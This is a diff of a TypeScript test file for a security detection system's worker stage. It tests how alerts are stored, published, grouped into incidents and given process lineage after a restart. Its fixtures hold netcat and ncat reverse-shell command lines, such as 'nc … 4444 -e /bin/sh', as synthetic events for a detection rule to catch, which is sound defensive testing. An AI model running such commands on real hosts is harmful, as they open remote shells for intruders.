@@ -1,5 +1,6 @@
 // Detection of the scale-out roles in one process: the worker's stage raises the built-in netcat rule's
-// alert, stores it and publishes it with its id as message id; a replayed batch stores nothing new but
+// alert, stores it, groups it and publishes it with its id as message id; after a restart a host's live processes
+// are read from the event store on first sight (and again when its partition comes back), so lineage is whole; a replayed batch stores nothing new but
 // publishes the same ids again (JetStream drops the repeats); a failed publish fails the stage (so the
 // batch is redelivered). Shared rules: two processes' rule services on one PostgreSQL database, notices on
 // an in-memory broadcast: an upload through one is run by the other's stage, a switch stops it, a change
@@ -17,13 +18,15 @@ import type { Bus, BusMessage, Subscription } from '../../src/bus/types.ts';
 import type { Alert } from '../../src/detect/alerts.ts';
 import { alertIdOf } from '../support/events.ts';
 import { RuleService } from '../../src/detect/rule-service.ts';
-import type { DetectionStage } from '../../src/detect/stage.ts';
+import { DetectionStage } from '../../src/detect/stage.ts';
 import type { VigilEvent } from '../../src/schema/event.ts';
 import { loadRules, ruleRegistry } from '../../src/server/detection.ts';
-import { apiRules, sharedRules, storeAndPublishSink, workerDetection, type RuleBus } from '../../src/server/role-detection.ts';
+import { apiRules, sharedRules, workerDetection, type RuleBus } from '../../src/server/role-detection.ts';
 import { SqliteAlertStore } from '../../src/stores/alerts/sqlite.ts';
 import type { StoredAlert } from '../../src/stores/alerts/types.ts';
 import { SqliteRuleStateStore } from '../../src/stores/rules/sqlite.ts';
+import { SqliteIncidentStore } from '../../src/stores/incidents/sqlite.ts';
+import type { ProcessNode } from '../../src/tree/process-tree.ts';
 import { createTempDatabase } from '../support/postgres.ts';
 
 const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001';
@@ -31,14 +34,18 @@ const log = pino({ level: 'silent' });
 
 let dir: string;
 let store: SqliteAlertStore;
+let incidents: SqliteIncidentStore;
 
 before(async () => {
   dir = mkdtempSync(join(tmpdir(), 'vigil-role-detect-'));
   store = new SqliteAlertStore(join(dir, 'alerts.db'));
   await store.migrate();
+  incidents = new SqliteIncidentStore(join(dir, 'alerts.db'));
+  await incidents.migrate();
 });
 
 after(async () => {
+  await incidents.close();
   await store.close();
   rmSync(dir, { recursive: true, force: true });
 });
@@ -55,8 +62,10 @@ function processStarts(executable: string, args: string[], count: number): Vigil
 }
 
 /** The built-in rules into `stage` (state in a throw-away SQLite file). */
-function builtinRules(stage: DetectionStage): void {
-  loadRules(new RuleService(ruleRegistry({}), new SqliteRuleStateStore(join(dir, `rules-${Math.random()}.db`)), stage), { log, ruleDirs: [] });
+function builtinRules(stage: DetectionStage): RuleService {
+  const rules = new RuleService(ruleRegistry({}), new SqliteRuleStateStore(join(dir, `rules-${Math.random()}.db`)), stage);
+  loadRules(rules, { log, ruleDirs: [] });
+  return rules;
 }
 
 function recordingBus(fail = false): Bus<StoredAlert> & { published: BusMessage<StoredAlert>[] } {
@@ -72,10 +81,19 @@ function recordingBus(fail = false): Bus<StoredAlert> & { published: BusMessage<
   };
 }
 
+/** The worker's detection side on the SQLite stores; `nodes`: what the event store holds of a host's live processes. */
+function worker(bus: Pick<Bus<StoredAlert>, 'publish'>, o: { nodes?: ProcessNode[]; reads?: string[]; partitions?: () => number[] } = {}) {
+  return workerDetection({
+    alerts: store, incidents, alertBus: bus, log,
+    events: { processNodes: async (tenant, host) => { o.reads?.push(`${tenant}/${host}`); return o.nodes ?? []; } },
+    rules: async (stage) => ({ rules: builtinRules(stage), stop: async () => {} }),
+    ...(o.partitions ? { partitions: o.partitions, partitionOf: () => 0 } : {}),
+  });
+}
+
 test('worker stage: stores and publishes each alert; a replayed batch adds nothing to the store and republishes the same ids', async () => {
   const bus = recordingBus();
-  const { stage, detection } = workerDetection(storeAndPublishSink(store, bus));
-  builtinRules(detection);
+  const { stage } = await worker(bus);
   assert.equal(stage.required, true);
   const shells = processStarts('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'], 2);
   const batch = [...processStarts('/usr/bin/ls', ['ls', '-l'], 3), ...shells];
@@ -90,12 +108,37 @@ test('worker stage: stores and publishes each alert; a replayed batch adds nothi
   assert.deepEqual(bus.published.map((m) => m.id).sort(), [...expected, ...expected].sort(), 'same message ids again');
   const stored = (await store.list({ tenantId: 'acme', ruleId: NETCAT_RULE, limit: 10 })).alerts.map((a) => a.id).sort();
   assert.deepEqual(stored, ids, 'one row per alert');
+  const grouped = await incidents.incidentOfAlert('acme', ids[0]);
+  assert.ok(grouped, 'grouped into an incident');
 });
 
 test('worker stage: a failed publish fails the stage, so the batch is redelivered', async () => {
-  const { stage, detection } = workerDetection(storeAndPublishSink(store, recordingBus(true)));
-  builtinRules(detection);
+  const { stage } = await worker(recordingBus(true));
   await assert.rejects(stage.process(processStarts('/usr/bin/ncat', ['ncat', '-e', '/bin/bash', 'x', '1'], 1)), /bus unavailable/);
+});
+
+test('worker stage after a restart: a host\'s live processes are read from the event store on first sight, so the lineage holds the processes started before', async () => {
+  const [shell] = processStarts('/usr/bin/nc', ['nc', '10.0.0.9', '4444', '-e', '/bin/sh'], 1);
+  shell.process = { ...shell.process!, ppid: 4242, parent: { pid: 4242, entity_id: 'bash-before-restart' } };
+  const bash: ProcessNode = {
+    tenant_id: 'acme', host_id: 'host-1', entity_id: 'bash-before-restart', pid: 4242, ppid: 1, parent_entity_id: '', exe: '/bin/bash', cmdline: 'bash -i',
+    start_ts: new Date(Date.now() - 3_600_000).toISOString(), exit_ts: null, exit_code: null, uid: 0, gid: 0, user_name: 'root', sha256: '', mitre: [], gtfobins: [], ver: 0,
+  };
+  const bus = recordingBus();
+  const reads: string[] = [];
+  let held = [0];
+  const { stage } = await worker(bus, { nodes: [bash], reads, partitions: () => held });
+  await stage.process([shell]);
+  const alert = bus.published.find((m) => m.payload.rule.id === NETCAT_RULE)!.payload;
+  assert.equal(alert.process?.entity_id, shell.process.entity_id);
+  assert.deepEqual(alert.ancestors?.map((a) => a.executable), ['/bin/bash'], 'the parent started before the restart');
+  await stage.process(processStarts('/usr/bin/ls', ['ls'], 1));
+  assert.deepEqual(reads, ['acme/host-1'], 'read once per host');
+  held = [];
+  await stage.process([]); // the partition went to another worker: the host is forgotten
+  held = [0];
+  await stage.process(processStarts('/usr/bin/ls', ['ls'], 1));
+  assert.deepEqual(reads, ['acme/host-1', 'acme/host-1'], 'read again when its partition came back');
 });
 
 /**
@@ -137,7 +180,7 @@ test('shared rules: an upload through one process runs in the other; a switch st
   const db = await createTempDatabase('rules');
   const bus = broadcast();
   const raised: Alert[] = [];
-  const { detection } = workerDetection({ write: async (a) => { raised.push(...a); } });
+  const detection = new DetectionStage({ rules: [], correlations: [] }, { write: async (a) => { raised.push(...a); } });
   const worker = await sharedRules(detection, { log, ruleDirs: [], postgres: db.url, bus, role: 'worker' });
   const api = await apiRules({ log, ruleDirs: [], postgres: db.url, bus });
   try {
